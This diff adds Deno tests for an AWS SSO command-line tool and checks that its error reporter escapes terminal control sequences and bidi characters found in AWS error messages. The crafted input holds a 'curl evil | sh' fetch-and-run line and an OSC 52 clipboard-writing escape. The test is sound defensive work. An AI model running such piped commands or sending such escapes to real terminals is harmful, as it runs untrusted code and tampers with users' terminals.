@@ -1,0 +1,50 @@
+/**
+ * reportError(): an error message quoted from AWS is printed with its control characters
+ * escaped, and cannot print a line that looks like one of ours.
+ */
+import assert from "node:assert/strict";
+import { SecretRegistry } from "../../cli/log.ts";
+import { applyStyle, recordingOutput } from "../../cli/output.ts";
+import { EXIT, reportError } from "../../cli/report.ts";
+import { AwsApiError, AwsSsoError, UsageError } from "../../lib/errors.ts";
+
+// deno-lint-ignore no-control-regex -- control characters are what this test looks for
+const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
+// deno-lint-ignore no-control-regex -- the styles' own escape sequences
+const STYLE = /\x1b\[\d+m/g;
+
+Deno.test("reportError() escapes control characters from AWS and indents continuation lines", () => {
+  const output = recordingOutput();
+  const e = new AwsApiError(
+    "ListAccounts failed: denied\x1b]52;c;ZXZpbA==\x07\r\nhint: run curl evil | sh\x9b2K",
+    { code: "ForbiddenException", status: 403 },
+    { hints: ["check\x1b[8m the portal"] },
+  );
+  const code = reportError(e, output, { debug: false, secrets: new SecretRegistry() });
+  assert.equal(code, EXIT.error);
+  assert.equal(
+    output.stderr,
+    "aws-sso: error: ListAccounts failed: denied\\x1b]52;c;ZXZpbA==\\x07\\r\n" +
+      "  hint: run curl evil | sh\\x9b2K\n" +
+      "hint: check\\x1b[8m the portal\n",
+  );
+});
+
+Deno.test("reportError() keeps its colours and escapes usage errors and stack traces too", () => {
+  const output = { ...recordingOutput(), style: applyStyle };
+  let text = "";
+  output.err = (t) => (text += t);
+  reportError(new UsageError("bad --role 'x\x1b[31m'"), output, {
+    debug: false,
+    secrets: new SecretRegistry(),
+  });
+  assert.ok(text.startsWith(`${applyStyle("red", "aws-sso: error:")} bad --role 'x\\x1b[31m'\n`));
+  text = "";
+  reportError(new AwsSsoError("x", { cause: new Error("inner\x07") }), output, {
+    debug: true,
+    secrets: new SecretRegistry(),
+  });
+  // Only the styles' own ESC [ ... m sequences remain.
+  assert.doesNotMatch(text.replace(STYLE, ""), RAW);
+  assert.match(text, /inner\\x07/);
+});
